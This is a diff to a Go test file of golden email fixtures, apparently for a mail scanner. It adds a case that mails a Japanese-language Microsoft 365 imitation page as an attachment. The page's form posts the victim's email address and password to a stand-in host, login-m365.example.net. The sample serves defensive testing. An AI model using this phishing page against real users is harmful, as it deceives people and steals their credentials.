@@ -377,6 +377,15 @@ l.click();
 			parts: []mimePart{attachment("注文書.rtf", "application/rtf", []byte(rtf))}}
 		return goldenFiles{eml: m.bytes()}
 	}},
+	// A credential-phishing page mailed as an attachment.
+	{"38-credential-form", func(t *testing.T, k *kit) goldenFiles {
+		page := `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Microsoft 365</title></head><body>` +
+			`<p>文書を表示するにはサインインしてください。</p><form method="post" action="https://login-m365.example.net/auth.php">` +
+			`<input type="email" name="u" value="bob@corp.example"><input type="password" name="p"><button>サインイン</button></form></body></html>`
+		m := letter{id: "38-credential-form", subject: "共有ドキュメント", text: "共有ドキュメントをご確認ください。\r\n",
+			parts: []mimePart{attachment("Document.html", "text/html", []byte(page))}}
+		return goldenFiles{eml: m.bytes()}
+	}},
 }
 
 // goldenSandbox configures a sandbox that is never contacted: golden
